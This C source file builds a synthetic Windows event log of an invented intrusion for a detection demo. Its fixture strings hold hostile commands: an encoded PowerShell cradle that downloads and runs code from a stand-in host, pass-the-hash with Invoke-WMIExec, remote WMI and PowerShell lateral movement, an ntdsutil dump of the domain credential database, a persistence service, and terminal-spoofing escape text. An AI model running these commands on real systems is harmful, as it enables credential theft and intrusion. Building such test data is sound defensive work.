/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * story.c - the intrusion of the demo: Larchwood Ltd, 9 and 10 March 2026, all of it invented.
 *
 * A document opened on a workstation, a pass-the-hash tool in PowerShell, WMI to the next hosts,
 * PowerShell remoting from the SQL server at night, a cleared log. Every built-in detection fires,
 * some of them twice, among the everyday events of seven hosts.
 */
#include "config.h"

#include "samples/sample.h"

#include <stdlib.h>
#include <string.h>

#include "base/when.h"

#define POWERSHELL_EXE "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define SID(rid)       "S-1-5-21-3120884213-1740265111-2208412345-" rid

struct machine {
	const char *host, *address, *user, *sid;
};
static const struct machine machines[] = {
	{ "LW-WS-11.larchwood.example", "10.20.4.11", "j.reyes", SID("1121") },
	{ "LW-WS-17.larchwood.example", "10.20.4.17", "m.okafor", SID("1117") },
	{ "LW-WS-23.larchwood.example", "10.20.4.23", "t.brandt", SID("1104") },
	{ "LW-SRV-SQL1.larchwood.example", "10.20.0.21", "svc_sql", SID("1601") },
	{ "LW-SRV-FILE.larchwood.example", "10.20.0.22", "LW-SRV-FILE$", SID("1602") },
	{ "LW-DC01.larchwood.example", "10.20.0.10", "LW-DC01$", SID("1000") },
	{ "LW-JUMP.larchwood.example", "10.20.0.40", "t.brandt", SID("1104") },
};
enum { WS11, WS17, WS23, SQL1, FILE1, DC01, JUMP, MACHINES };

struct tale {
	struct arena        *keep;
	struct sample_event *events;
	size_t               n, cap;
	uint64_t             record_id[MACHINES][LOG_COUNT];
	uint32_t             pid;
};

static int64_t
at(int day, int hour, int minute, int second)
{
	struct when_fields f = { .year = 2026, .month = 3, .day = day, .hour = hour,
				 .minute = minute, .second = second, .ns = 412308700 };
	int64_t            ns = 0;

	when_join(&f, &ns);
	return ns;
}

static struct sample_event *
add(struct tale *t, int who, int64_t when, enum sample_log log, uint32_t event_id)
{
	arena_grow(t->keep, t->events, t->n, &t->cap);
	struct sample_event *ev = &t->events[t->n++];

	*ev = (struct sample_event){ .time_ns = when, .host = machines[who].host, .log = log,
				     .event_id = event_id, .level = 4, .pid = 4, .tid = 2280 };
	return ev;
}

static struct sample_event *
script(struct tale *t, int who, int64_t when, const char *sid, const char *text, const char *id,
       const char *path)
{
	struct sample_event *ev = add(t, who, when, LOG_POWERSHELL, 4104);

	ev->version = 1;
	ev->level = 5;
	ev->task = 2;
	ev->opcode = 15;
	ev->pid = t->pid;
	ev->user_sid = sid;
	sample_data(ev, "MessageNumber", "1");
	sample_data(ev, "MessageTotal", "1");
	sample_data(ev, "ScriptBlockText", text);
	sample_data(ev, "ScriptBlockId", id);
	sample_data(ev, "Path", path);
	return ev;
}

/* A script that Windows split: the words of a rule lie in different parts. */
static void
split_script(struct tale *t, int who, int64_t when, const char *sid, const char *id,
	     const char *const parts[3])
{
	static const char *const numbers[] = { "1", "2", "3" };

	for (int i = 0; i < 3; i++) {
		struct sample_event *ev = script(t, who, when + i * 1000000, sid, parts[i], id,
						 "C:\\Users\\Public\\sync.ps1");

		ev->data[0].value = numbers[i];
		ev->data[1].value = "3";
	}
}

static void
process_4688(struct tale *t, int who, int64_t when, const char *user, const char *sid,
	     const char *image, const char *command, const char *parent)
{
	struct sample_event *ev = add(t, who, when, LOG_SECURITY, 4688);

	ev->version = 2;
	ev->task = 13312;
	ev->keywords = UINT64_C(0x8020000000000000);
	sample_data(ev, "SubjectUserSid", sid);
	sample_data(ev, "SubjectUserName", user);
	sample_data(ev, "SubjectDomainName", "LARCH");
	sample_data(ev, "SubjectLogonId", "0x5a1b2c");
	sample_data(ev, "NewProcessId", arena_printf(t->keep, "0x%x", (unsigned)(t->pid += 4)).p);
	sample_data(ev, "NewProcessName", image);
	sample_data(ev, "TokenElevationType", "%%1937");
	sample_data(ev, "ProcessId", "0xd04");
	sample_data(ev, "CommandLine", command);
	sample_data(ev, "TargetUserSid", "S-1-0-0");
	sample_data(ev, "TargetUserName", "-");
	sample_data(ev, "TargetDomainName", "-");
	sample_data(ev, "TargetLogonId", "0x0");
	sample_data(ev, "ParentProcessName", parent);
	sample_data(ev, "MandatoryLabel", "S-1-16-12288");
}

static void
process_sysmon(struct tale *t, int who, int64_t when, const char *user, const char *image,
	       const char *original, const char *command, const char *parent)
{
	struct sample_event *ev = add(t, who, when, LOG_SYSMON, 1);
	char                 utc[WHEN_TEXT_MAX];

	when_to_human(when, 0, utc);
	ev->version = 5;
	ev->task = 1;
	ev->keywords = UINT64_C(0x8000000000000000);
	ev->user_sid = "S-1-5-18";
	sample_data(ev, "RuleName", "-");
	sample_data(ev, "UtcTime", arena_printf(t->keep, "%s.412", utc).p);
	sample_data(ev, "ProcessGuid",
		    arena_printf(t->keep, "{7b2f61a0-0d3e-69ae-%04x-000000004c00}",
				 (unsigned)(t->n & 0xffff))
			.p);
	sample_data(ev, "ProcessId", arena_printf(t->keep, "%u", (unsigned)(t->pid += 4)).p);
	sample_data(ev, "Image", image);
	sample_data(ev, "OriginalFileName", original);
	sample_data(ev, "CommandLine", command);
	sample_data(ev, "CurrentDirectory", "C:\\Users\\Public\\");
	sample_data(ev, "User", arena_printf(t->keep, "LARCH\\%s", user).p);
	sample_data(ev, "LogonId", "0x5a1b2c");
	sample_data(ev, "IntegrityLevel", "High");
	sample_data(ev, "Hashes",
		    "SHA256=9785001B0DCF755EDDB8AF294A373C0B87B2498660F724E76C4D53F9C217C7A3");
	sample_data(ev, "ParentProcessGuid", "{7b2f61a0-0d3e-69ae-0001-000000004c00}");
	sample_data(ev, "ParentProcessId", "3332");
	sample_data(ev, "ParentImage", parent);
	sample_data(ev, "ParentCommandLine", parent);
}

static void
network_logon(struct tale *t, int who, int64_t when, const char *user, const char *sid, int from)
{
	struct sample_event *ev = add(t, who, when, LOG_SECURITY, 4624);

	ev->version = 2;
	ev->task = 12544;
	ev->keywords = UINT64_C(0x8020000000000000);
	sample_data(ev, "SubjectUserSid", "S-1-0-0");
	sample_data(ev, "SubjectUserName", "-");
	sample_data(ev, "SubjectDomainName", "-");
	sample_data(ev, "SubjectLogonId", "0x0");
	sample_data(ev, "TargetUserSid", sid);
	sample_data(ev, "TargetUserName", user);
	sample_data(ev, "TargetDomainName", "LARCH");
	sample_data(ev, "TargetLogonId", "0x7c91e2");
	sample_data(ev, "LogonType", "3");
	sample_data(ev, "LogonProcessName", "NtLmSsp ");
	sample_data(ev, "AuthenticationPackageName", "NTLM");
	sample_data(ev, "WorkstationName", "-");
	sample_data(ev, "ProcessId", "0x0");
	sample_data(ev, "ProcessName", "-");
	sample_data(ev, "IpAddress", machines[from].address);
	sample_data(ev, "IpPort", "49811");
}

static void
shell_created(struct tale *t, int who, int64_t when, const char *sid)
{
	struct sample_event *ev = add(t, who, when, LOG_WINRM, 91);

	ev->task = 9;
	ev->keywords = UINT64_C(0x4000000000000004);
	ev->user_sid = sid;
	sample_data(ev, "resourceUri",
		    "http://schemas.microsoft.com/powershell/Microsoft.PowerShell");
	sample_data(ev, "shellId", "5B2E7C44-1C0B-4A53-9F0E-2D0A7E41B6D3");
}

static void
first_day(struct tale *t)
{
	const char *okafor = machines[WS17].sid, *brandt = machines[WS23].sid;

	process_4688(t, WS17, at(9, 13, 58, 2), "m.okafor", okafor,
		     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
		     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
		     "\"C:\\Users\\m.okafor\\Downloads\\Invoice_88213.docm\"",
		     "C:\\Windows\\explorer.exe");
	process_4688(t, WS17, at(9, 13, 58, 41), "m.okafor", okafor, POWERSHELL_EXE,
		     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUA"
		     "dAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgA"
		     "dAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADYANgAvAGEAJwApAA==",
		     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
	script(t, WS17, at(9, 13, 58, 44), okafor,
	       "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.66/a')",
	       "0f6a1c52-0c0e-4a6a-8a31-6f0d2b8e1101", "");
	script(t, WS17, at(9, 14, 20, 9), okafor,
	       "Import-Module C:\\Users\\Public\\Invoke-WMIExec.ps1",
	       "0f6a1c52-0c0e-4a6a-8a31-6f0d2b8e1102", "");
	script(t, WS17, at(9, 14, 21, 37), okafor,
	       "Invoke-WMIExec -Target 10.20.4.23 -Domain LARCH -Username t.brandt -Hash "
	       "8846f7eaee8fb117ad06bdd830b7586c -Command \"cmd /c whoami > C:\\Users\\Public\\o.txt\"",
	       "0f6a1c52-0c0e-4a6a-8a31-6f0d2b8e1103", "C:\\Users\\Public\\go.ps1");
	network_logon(t, WS23, at(9, 14, 21, 38), "t.brandt", brandt, WS17);
	process_4688(t, WS23, at(9, 14, 21, 39), "t.brandt", brandt, "C:\\Windows\\System32\\cmd.exe",
		     "cmd /c whoami > C:\\Users\\Public\\o.txt",
		     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
	const char *remote_wmi =
	    "Invoke-WmiMethod -CN LW-SRV-SQL1 -Class Win32_Process -Name create -ArgumentList "
	    "\"powershell -nop -w hidden -File C:\\Users\\Public\\s.ps1\"";

	script(t, WS23, at(9, 15, 10, 12), brandt, remote_wmi, "0f6a1c52-0c0e-4a6a-8a31-6f0d2b8e2301",
	       "");
	const char *command = arena_printf(t->keep, "powershell.exe -c \"%s\"", remote_wmi).p;

	process_sysmon(t, WS23, at(9, 15, 10, 11), "t.brandt", POWERSHELL_EXE, "PowerShell.EXE", command,
		       "C:\\Windows\\System32\\cmd.exe");
	process_4688(t, WS23, at(9, 15, 10, 11), "t.brandt", brandt, POWERSHELL_EXE, command,
		     "C:\\Windows\\System32\\cmd.exe");
	network_logon(t, SQL1, at(9, 15, 10, 12), "t.brandt", brandt, WS23);
	process_4688(t, SQL1, at(9, 15, 10, 13), "t.brandt", brandt, POWERSHELL_EXE,
		     "powershell -nop -w hidden -File C:\\Users\\Public\\s.ps1",
		     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
	struct sample_event *wmi = add(t, SQL1, at(9, 15, 10, 13), LOG_WMI, 5857);

	wmi->level = 0;
	wmi->user_sid = "S-1-5-18";
	sample_data(wmi, "ProviderName", "CIMWin32");
	sample_data(wmi, "Code", "0x0");
	sample_data(wmi, "HostProcess", "wmiprvse.exe");
	sample_data(wmi, "ProviderPath", "%systemroot%\\system32\\wbem\\cimwin32.dll");
}

static void
second_night(struct tale *t)
{
	static const char *const parts[3] = {
		"# sync.ps1\n$targets = @('LW-SRV-FILE', 'LW-DC01', 'LW-JUMP')\n"
		"function Copy-Tool($to) {\n  Copy-Item C:\\Users\\Public\\s.ps1 "
		"\"\\\\$to\\c$\\Users\\Public\\\" -Force\n}\nforeach ($h in $targets) {\n"
		"  Copy-Tool $h\n  Invoke-Command ",
		"-ScriptBlock {\n    Get-ChildItem C:\\Shares -Recurse -Include *.xlsx, *.pst |\n"
		"      Select-Object FullName, Length |\n"
		"      Export-Csv C:\\Users\\Public\\files.csv -NoTypeInformation\n  } ",
		"-ComputerName $h -Credential $cred\n}\nRemove-Item C:\\Users\\Public\\sync.ps1\n",
	};
	const char *brandt = machines[WS23].sid;

	t->pid = 6120;
	split_script(t, SQL1, at(10, 2, 10, 31), brandt, "0f6a1c52-0c0e-4a6a-8a31-6f0d2b8e5001", parts);
	network_logon(t, FILE1, at(10, 2, 10, 33), "t.brandt", brandt, SQL1);
	shell_created(t, FILE1, at(10, 2, 10, 33), brandt);
	process_4688(t, FILE1, at(10, 2, 10, 34), "t.brandt", brandt,
		     "C:\\Windows\\System32\\wsmprovhost.exe",
		     "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
		     "C:\\Windows\\System32\\svchost.exe");
	shell_created(t, DC01, at(10, 2, 10, 40), brandt);
	network_logon(t, DC01, at(10, 2, 10, 40), "t.brandt", brandt, SQL1);
	script(t, SQL1, at(10, 2, 22, 5), brandt,
	       "Invoke-Command -ComputerName LW-DC01 -ScriptBlock { ntdsutil 'ac i ntds' 'ifm' "
	       "'create full C:\\Users\\Public\\n' q q }",
	       "0f6a1c52-0c0e-4a6a-8a31-6f0d2b8e5002", "");
	script(t, DC01, at(10, 2, 30, 18), brandt,
	       "$s = New-CimSession -ComputerName LW-JUMP\nInvoke-CimMethod -CimSession $s -ClassName "
	       "Win32_Process -MethodName Create -Arguments @{ CommandLine = 'cmd /c "
	       "C:\\Users\\Public\\s.cmd' }",
	       "0f6a1c52-0c0e-4a6a-8a31-6f0d2b8e6001", "");
	/* Text written to fool a terminal: a title change, a screen wipe, an override of direction. */
	script(t, DC01, at(10, 2, 41, 50), brandt,
	       "# \033]0;nothing to see\007\033[2J\033[H all clean \xE2\x80\xAEtxt.exe\xE2\x80\xAC\n"
	       "Invoke-Command -ComputerName LW-JUMP { Remove-Item C:\\Users\\Public\\*.cmd }",
	       "0f6a1c52-0c0e-4a6a-8a31-6f0d2b8e6002", "");
	struct sample_event *service = add(t, SQL1, at(10, 2, 50, 2), LOG_SYSTEM, 7045);

	service->keywords = UINT64_C(0x8080000000000000);
	service->user_sid = brandt;
	sample_data(service, "ServiceName", "LarchSync");
	sample_data(service, "ImagePath", "%COMSPEC% /c C:\\Users\\Public\\s.cmd");
	sample_data(service, "ServiceType", "user mode service");
	sample_data(service, "StartType", "auto start");
	sample_data(service, "AccountName", "LocalSystem");
}

static void
everyday(struct tale *t, int who)
{
	struct sample_life life = {
		.rng = { 0x9E3779B97F4A7C15u + (uint64_t)who * 77 },
		.host = machines[who].host, .address = machines[who].address, .domain = "LARCH",
		.user = machines[who].user, .user_sid = machines[who].sid,
		.now_ns = at(9, 6, 0, who), .mean_gap_ns = 120 * WHEN_SECOND, .next_pid = 4000,
	};

	while (life.now_ns < at(10, 5, 0, 0)) {
		arena_grow(t->keep, t->events, t->n, &t->cap);
		/* The slot first: the event's texts go into the same arena behind it. */
		struct sample_event ev;

		sample_next(&life, &ev, t->keep);
		t->events[t->n++] = ev;
	}
}

static int
by_time(const void *a, const void *b)
{
	const struct sample_event *x = a, *y = b;

	if (x->time_ns != y->time_ns)
		return x->time_ns < y->time_ns ? -1 : 1;
	if (x->host != y->host)
		return strcmp(x->host, y->host);
	return x->event_id < y->event_id ? -1 : x->event_id > y->event_id;
}

static int
machine_of(const struct sample_event *ev)
{
	for (int i = 0; i < MACHINES; i++)
		if (machines[i].host == ev->host)
			return i;
	return 0;
}

size_t
sample_story(struct arena *keep, struct sample_event **out)
{
	struct tale t = { .keep = keep, .pid = 4312 };

	first_day(&t);
	second_night(&t);
	for (int who = 0; who < MACHINES; who++)
		everyday(&t, who);
	qsort(t.events, t.n, sizeof(t.events[0]), by_time);
	for (size_t i = 0; i < t.n; i++) {
		struct sample_event *ev = &t.events[i];
		int                  who = machine_of(ev);

		ev->record_id = 5000u + 1000u * (uint64_t)who + t.record_id[who][ev->log]++;
	}
	*out = t.events;
	return t.n;
}
